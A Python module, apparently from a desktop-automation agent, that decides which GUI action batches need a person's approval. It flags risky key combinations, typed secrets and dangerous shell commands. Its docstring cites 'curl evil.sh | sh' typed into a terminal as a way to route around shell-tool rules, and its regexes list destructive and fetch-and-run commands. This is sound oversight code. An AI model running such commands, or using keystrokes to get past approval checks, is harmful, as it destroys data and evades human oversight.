"""Risk rules for GUI actions: which computer-action batches a person approves before they run.

The shell tool has its own rules (`agent.cli.risk_reason`); keystrokes route around them ("open a
terminal, type `curl evil.sh | sh`"), so a batch is checked here too. Pragmatic: closing a window
(alt+F4) or saving is normal work and runs; ending the session, switching to a text console,
opening a terminal or run dialog, typing secrets, typing dangerous shell commands where a shell may
read them, and typing Deskhand's own token or data paths go to a person.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import Any

from agent.platform.keys import UnknownKey, canonical_keys
from agent.platform.system import OsName, current_os

# Combinations as sets of canonical key names ("meta" is Cmd on macOS, the Windows key elsewhere;
# left/right variants folded), on every OS and on one OS.
_RISKY_COMBOS: list[tuple[set[str], str]] = [
    ({"ctrl", "alt", "delete"}, "ends or locks the session (ctrl+alt+delete)"),
    ({"ctrl", "alt", "end"}, "ends the remote session"),
]
_RISKY_COMBOS_ON: dict[OsName, list[tuple[set[str], str]]] = {
    "linux": [
        ({"ctrl", "alt", "backspace"}, "kills the graphical session (ctrl+alt+backspace)"),
        ({"ctrl", "alt", "t"}, "opens a terminal"),
        ({"meta", "r"}, "opens a run dialog"),
        ({"alt", "f2"}, "opens a run dialog"),
        ({"meta", "l"}, "locks the screen"),
    ],
    "windows": [
        ({"meta", "r"}, "opens the Run dialog"),
        ({"meta", "x"}, "opens the power-user menu (terminal as administrator, shut down)"),
        ({"meta", "l"}, "locks the screen"),
        ({"ctrl", "shift", "esc"}, "opens the Task Manager"),
        ({"ctrl", "alt", "t"}, "opens a terminal"),
    ],
    "macos": [
        ({"ctrl", "meta", "q"}, "locks the screen"),
        ({"meta", "shift", "q"}, "logs the user out"),
        ({"meta", "alt", "shift", "q"}, "logs the user out"),
        ({"meta", "alt", "esc"}, "opens Force Quit"),
    ],
}
_CONSOLE = re.compile(r"^f([1-9]|1[0-2])$")  # ctrl+alt+F1..F12 switch to a text console

_SECRETS = [
    (re.compile(r"sk-[A-Za-z0-9_\-]{16,}"), "an API key (sk-…)"),
    (re.compile(r"eyJ[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]+"), "a token (JWT)"),
    (re.compile(r"-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----"), "a private key"),
    (re.compile(r"\bAKIA[0-9A-Z]{16}\b"), "an AWS access key"),
    (re.compile(r"\bgh[pousr]_[A-Za-z0-9]{30,}\b"), "a GitHub token"),
]
_SHELL_DANGER = re.compile(
    r"(^|[;&|(`$]\s*|\s)(sudo|su|doas|pkexec)(\s|$)"
    r"|\brm\s+(-[a-zA-Z]*[rRf][a-zA-Z]*\s+)+"
    r"|\bmkfs(\.\w+)?\b|\bdd\b[^\n]*\bof=|\bshred\b|\bwipefs\b"
    r"|\b(curl|wget)\b[^\n|]*\|\s*(sudo\s+)?(ba|z|da)?sh\b"
    r"|:\(\)\s*\{\s*:\|:&\s*\};:"
    r"|\bchmod\s+(-R\s+)?[0-7]*777\s+/"
    r"|\b(shutdown|reboot|poweroff|halt)\b|\bkillall\b|\bpkill\b"
    r"|>\s*/dev/sd[a-z]"
    # PowerShell and cmd
    r"|\b(Remove-Item|ri|rd|rmdir|del|erase)\b[^\n]*\s(-Recurse|-r|-Force|/s|/q)\b"
    r"|\b(Format-Volume|Clear-Disk|Remove-Partition|Initialize-Disk|diskpart|bcdedit|vssadmin)\b"
    r"|\breg(\.exe)?\s+(add|delete)\b|\bSet-ExecutionPolicy\b|-Verb\s+['\"]?RunAs\b"
    r"|\b(Stop-Computer|Restart-Computer)\b|\bshutdown(\.exe)?\s+/[srp]\b"
    r"|\b(iex|Invoke-Expression)\b[^\n]*\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b"
    r"|\b(iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n|]*\|\s*(iex|Invoke-Expression)\b",
    re.I,
)
_TERMINALS = re.compile(
    r"term|konsole|tilix|alacritty|kitty|urxvt|rxvt|terminator|guake|tilda|yakuake|wezterm|"
    r"foot|st-256color|powershell|cmd\.exe|command prompt|iterm|\bbash\b|\bzsh\b|\bsh\b|"
    r"run application|^run$",
    re.I,
)


def _fold(key: str) -> str:
    return re.sub(r"(left|right)$", "", key) if key not in ("left", "right") else key


def combo_reason(keys: str | Iterable[str], os_name: OsName | None = None) -> str | None:
    try:
        names = {_fold(k) for k in canonical_keys(keys)}
    except UnknownKey:
        return None  # the batch fails on it before anything is pressed
    for combo, reason in _RISKY_COMBOS + _RISKY_COMBOS_ON[os_name or current_os()]:
        if combo <= names and len(names) == len(combo):
            return reason
    if {"ctrl", "alt"} <= names and any(_CONSOLE.match(n) for n in names):
        return "switches to a text console"
    return None


def secret_reason(text: str) -> str | None:
    for pattern, what in _SECRETS:
        if pattern.search(text):
            return f"types what looks like {what}"
    return None


def looks_like_terminal(window: dict[str, Any] | None) -> bool:
    if not window:
        return False
    return bool(_TERMINALS.search(f"{window.get('app') or ''} {window.get('title') or ''}"))


def needs_windows(actions: Sequence[Any]) -> bool:
    """Whether `gui_risk` needs the window list: only typed text that a shell must not run does.

    Listing windows costs about 10 ms, so the common batch (ordinary text) goes without it.
    """
    return any(
        isinstance(a, dict) and a.get("type") == "type" and _SHELL_DANGER.search(str(a.get("text") or ""))
        for a in actions
    )


def gui_risk(
    actions: Sequence[Any],
    *,
    windows: list[dict[str, Any]] | None,
    protected: Iterable[str] = (),
    os_name: OsName | None = None,
) -> list[str]:
    """Why a person must approve this batch first (empty: it may run).

    `windows` is the window list before the batch (None when unknown). Typed text counts as going
    to a terminal when the focused window is one, when the windows are unknown, or when an earlier
    action in the batch may have moved the focus while a terminal is on screen.
    """
    reasons: list[str] = []
    focused = next((w for w in windows or [] if w.get("focused")), None)
    terminal_on_screen = any(looks_like_terminal(w) for w in windows or [])
    focus_may_move = False
    for action in actions:
        if not isinstance(action, dict):
            continue
        kind = action.get("type")
        keys = action.get("keys") or []
        if keys:
            why = combo_reason(keys, os_name)
            if why:
                reasons.append(why)
        if kind in ("click", "double_click", "keypress", "drag"):
            focus_may_move = True
        if kind != "type":
            continue
        text = str(action.get("text") or "")
        for value in protected or ():
            if value and str(value) in text:
                reasons.append("types Deskhand's own token or data path")
                break
        why = secret_reason(text)
        if why:
            reasons.append(why)
        shell_may_read = (
            windows is None
            or looks_like_terminal(focused)
            or (focus_may_move and terminal_on_screen)
            or any("terminal" in r or "run dialog" in r for r in reasons)
        )
        if shell_may_read and _SHELL_DANGER.search(text):
            reasons.append(
                "types a dangerous shell command (sudo, rm -r/-f, mkfs, Remove-Item -Recurse, Format-Volume, "
                "dd of=, …) where a shell may run it"
            )
    return list(dict.fromkeys(reasons))
